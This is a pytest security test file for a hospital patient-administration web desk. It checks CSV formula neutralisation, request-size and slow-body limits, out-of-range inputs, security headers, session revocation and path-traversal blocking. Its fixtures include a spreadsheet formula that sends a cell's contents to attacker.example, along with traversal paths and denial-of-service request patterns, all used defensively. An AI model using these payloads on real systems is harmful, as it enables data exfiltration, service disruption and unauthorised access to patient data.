"""The desk against hostile input, over real HTTP on 127.0.0.1 (`pamfr serve` with [desk]
enabled, httpx): what a spreadsheet makes of an export, how much of a form is read."""

from __future__ import annotations

import csv
import io
import re

import pytest

from pamfr.hl7.samples import Person, message, nir_with_key
from tests.desk.serving import OPERATOR_TOKEN, READER_TOKEN, csrf_of, desk_daemon
from tests.helpers import run_cli, send

# A sending application that a spreadsheet would run as a formula (MSH-3), refused (AR: an
# event pamfr does not take) so that it is listed in the refusals per sender.
FORMULA_SENDER = '=HYPERLINK("http://attacker.example/?"&A1;"x")'


@pytest.fixture(scope="module")
def desk(tmp_path_factory):
    # /fhir on too: a path through the desk's prefix must not reach it without a token
    with desk_daemon(tmp_path_factory.mktemp("desk-security"), PAMFR_HTTP_FHIR="true") as running:
        yield running


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(desk):
    hostile = [
        f"MSH|^~\\&|{app}|CHU-X|DPI|CHU-X|20240306111154||ADT^A99^ADT_A01|{cid}|T|2.5\r"
        f"EVN||20240306111154\rPID|||X{cid}^^^CHU-X^PI||DOE^JOHN\r"
        for app, cid in ((FORMULA_SENDER, "SEC-F1"), ("+1+2", "SEC-F2"), ("-3+4", "SEC-F3"))
    ] + ["MSH|^~\\&|@SUM(1+1)|CHU-X|DPI|CHU-X|20240306111154||ADT^A99|SEC-F4|T|2.5\r"]
    assert [a.code for a in send(desk.daemon.port, hostile)] == ["AR"] * 4
    exported = desk.signed_in().get("/desk/listes/refus.csv")
    assert exported.status_code == 200
    table = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    senders = [row[0] for row in table[1:]]
    assert "'" + FORMULA_SENDER + "|CHU-X" in senders  # shown as text, whole
    assert {"'+1+2|CHU-X", "'-3+4|CHU-X", "'@SUM(1+1)|CHU-X"} <= set(senders)
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_a_trace_export_and_the_cli_s_csv_quote_a_formula_control_id(desk):
    person = Person(ipp="SECF5", birth_name="FORMULE", ins=nir_with_key("2800175123999"))
    assert [a.code for a in send(desk.daemon.port, [message("A28", person, "=1+2")])] == ["AA"]
    client = desk.signed_in()
    page = client.get("/desk/patients", params={"ipp": "SECF5"})
    pid = int(re.search(r'href="/desk/patients/(\d+)"', page.text).group(1))
    exported = client.get(f"/desk/patients/{pid}/trace.csv").text.lstrip("\ufeff")
    cli = run_cli("patient", "trace", "--id", str(pid), "--format", "csv", "--db", desk.db_url)
    for table in (exported, cli.stdout):
        found = list(csv.DictReader(io.StringIO(table)))
        assert [r["control_id"] for r in found] == ["'=1+2"]
    # JSON is data, not a spreadsheet: the control id as sent
    assert client.get(f"/desk/patients/{pid}/trace.json").json()[0]["control_id"] == "=1+2"


def _refused_fast(answer) -> None:
    assert answer.status_code == 413, answer.status_code
    assert "Trop" in answer.text


def test_a_sign_in_form_larger_than_the_bound_is_refused_unread(desk):
    client = desk.client()
    big = "&".join(f"f{i}=" + "x" * 10_000 for i in range(900)).encode()  # 9 MB, 900 fields
    _refused_fast(
        client.post(
            "/desk/signin",
            content=big,
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
    )

    def chunks():  # no Content-Length: the body is counted as it comes
        for _ in range(900):
            yield b"f=" + b"x" * 10_000 + b"&"

    _refused_fast(
        client.post(
            "/desk/signin",
            content=chunks(),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
    )
    # a multipart file would be spooled to a temporary file on disk
    _refused_fast(client.post("/desk/signin", files={"f": ("f.bin", b"x" * 5_000_000)}))
    # the port still answers, and a well-formed sign-in still works
    assert desk.signed_in().get("/desk/").status_code == 200


def test_a_signed_in_form_is_bounded_too(desk):
    client = desk.signed_in()
    answer = client.post(
        "/desk/doublons/decision",
        content=b"raison=" + b"&".join(b"r=" + b"x" * 10_000 for _ in range(900)),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    _refused_fast(answer)


@pytest.mark.parametrize(
    "path",
    [
        "/desk/messages?page=999999999999999999999999999999",
        "/desk/listes/provisoires?jours=999999999999999999999999999999",
        "/desk/listes/provisoires?jours=99999999",
        "/desk/messages?depuis=9999-12-31T23:59:59%2B00:00",
        "/desk/messages?jusqu_a=9999-12-31",
        "/desk/trace?depuis=0001-01-01T00:00:00%2B14:00",
        "/desk/patients/99999999999999999999999",
        "/desk/messages/99999999999999999999999",
        "/desk/patients/99999999999999999999999/trace.csv",
    ],
)
def test_out_of_range_numbers_and_dates_get_a_page_not_a_500(desk, path):
    answer = desk.signed_in().get(path)
    assert answer.status_code in (400, 404), (answer.status_code, answer.text[:200])
    assert "<h1>" in answer.text and "Traceback" not in answer.text
    assert "OverflowError" not in desk.daemon.log()


def test_pages_and_exports_are_not_cached_framed_or_sniffed(desk):
    client = desk.signed_in()
    page = client.get("/desk/patients", params={"ipp": "COL1"})
    pid = int(re.search(r'href="/desk/patients/(\d+)"', page.text).group(1))
    answers = [
        desk.client().get("/desk/signin"),
        client.get("/desk/"),
        page,
        client.get(f"/desk/patients/{pid}"),
        client.get(f"/desk/patients/{pid}/trace.csv"),
        client.get(f"/desk/patients/{pid}/trace.json"),
        client.get("/desk/listes/collisions.csv"),
        client.get("/desk/nulle-part"),
    ]
    for answer in answers:
        assert answer.headers["cache-control"] == "no-store", answer.url
        assert answer.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"
    static = client.get("/desk/static/desk.css")
    assert static.status_code == 200 and static.headers["cache-control"] != "no-store"
    assert static.headers["x-content-type-options"] == "nosniff"


def test_a_cookie_copied_before_sign_out_no_longer_gets_in(desk):
    client = desk.signed_in()
    home = client.get("/desk/")
    assert home.status_code == 200
    copied = client.cookies.get("pamfr_desk")
    out = client.post("/desk/signout", data={"csrf": csrf_of(home.text)})
    assert (out.status_code, out.headers["location"]) == (303, "/desk/signin")
    replay = desk.client()
    replay.cookies.set("pamfr_desk", copied, domain="127.0.0.1", path="/desk")
    answer = replay.get("/desk/")
    assert (answer.status_code, answer.headers["location"]) == (303, "/desk/signin")
    assert replay.post("/desk/signout", data={"csrf": csrf_of(home.text)}).status_code == 403
    assert desk.signed_in().get("/desk/").status_code == 200  # a new sign-in gets in


def test_a_search_and_a_worklist_page_are_in_the_access_log_without_the_criteria(desk):
    from sqlalchemy import select

    from pamfr.store.db import make_engine
    from pamfr.store.schema import desk_access

    client = desk.signed_in(READER_TOKEN)
    page = client.get("/desk/patients", params={"nom": "COLL"})
    shown = sorted(int(i) for i in re.findall(r'href="/desk/patients/(\d+)"', page.text))
    assert len(shown) == 2  # COLLIN and COLLART, with their names and birth dates
    client.get("/desk/patients", params={"nom": "NOBODY-HERE"})
    client.get("/desk/listes/collisions")
    engine = make_engine(desk.db_url)
    try:
        with engine.connect() as conn:
            logged = [
                tuple(r)
                for r in conn.execute(
                    select(desk_access.c.action, desk_access.c.patient_id, desk_access.c.detail)
                    .where(desk_access.c.token_name == "bob")
                    .order_by(desk_access.c.id)
                )
            ]
    finally:
        engine.dispose()
    searched = [r for r in logged if r[0] == "search-patients"]
    assert sorted(r[1] for r in searched if r[1] is not None) == shown
    assert ("search-patients", None, "0 found") in searched
    assert ("view-worklist", None, "collisions") in logged
    assert not any("COLL" in r[2] or "NOBODY" in r[2] for r in logged)


def test_a_form_body_sent_too_slowly_is_cut_at_the_header_deadline(tmp_path):
    import socket
    import time

    with desk_daemon(tmp_path, PAMFR_HTTP_HEADER_TIMEOUT="1") as slow:
        port = int(slow.base.rsplit(":", 1)[1])
        socks = []
        for _ in range(3):  # headers at once, then a body that never comes whole
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
            s.sendall(
                b"POST /desk/signin HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                b"Content-Type: application/x-www-form-urlencoded\r\n"
                b"Content-Length: 1000\r\n\r\ncsrf=x"
            )
            socks.append(s)
        started = time.monotonic()
        for s in socks:
            answer = b""
            while chunk := s.recv(65536):
                answer += chunk
            assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
            s.close()
        assert time.monotonic() - started < 6
        assert slow.client().get("/healthz").status_code == 200


@pytest.mark.parametrize(
    "target",
    [
        "/desk/../fhir/Patient",
        "/desk%2f..%2ffhir%2fPatient",
        "/desk/%2e%2e/fhir/Patient",
        "/desk/..%2f..%2fevents",
        "//desk/../fhir/Patient",
        "/DESK/../fhir/Patient",
        "/desk/static/../../fhir/Patient",
        "/desk/static/..%2f..%2fapp.py",
        "http://127.0.0.1/desk/../fhir/Patient",
    ],
)
def test_no_path_through_the_desk_s_own_sign_in_reaches_data_without_a_token(desk, target):
    import socket

    port = int(desk.base.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        answer = b""
        while chunk := s.recv(65536):
            answer += chunk
    status = int(answer.split(b" ", 2)[1])
    assert status in (400, 401, 404), answer[:200]
    assert b'"resourceType":"Bundle"' not in answer and b'"events"' not in answer
    assert b"COLLIN" not in answer and b"import " not in answer
    # the same data with a token: what the assertions above would have caught
    if "fhir" in target:
        bearer = {"authorization": f"Bearer {OPERATOR_TOKEN}"}
        found = desk.client().get("/fhir/Patient", params={"family": "COLLIN"}, headers=bearer)
        assert found.status_code == 200 and b'"resourceType":"Bundle"' in found.content


def test_a_range_export_names_its_range_in_the_access_log(desk):
    from sqlalchemy import select

    from pamfr.store.db import make_engine
    from pamfr.store.schema import desk_access

    client = desk.signed_in(READER_TOKEN)
    params = {"depuis": "2020-01-01", "jusqu_a": "2039-12-31", "format": "csv"}
    assert client.get("/desk/trace", params=params).status_code == 200
    engine = make_engine(desk.db_url)
    try:
        with engine.connect() as conn:
            details = [
                r[0]
                for r in conn.execute(
                    select(desk_access.c.detail).where(
                        desk_access.c.token_name == "bob", desk_access.c.action == "export-trace"
                    )
                )
            ]
    finally:
        engine.dispose()
    assert "range csv 2020-01-01T00:00:00+00:00 2040-01-01T00:00:00+00:00" in details
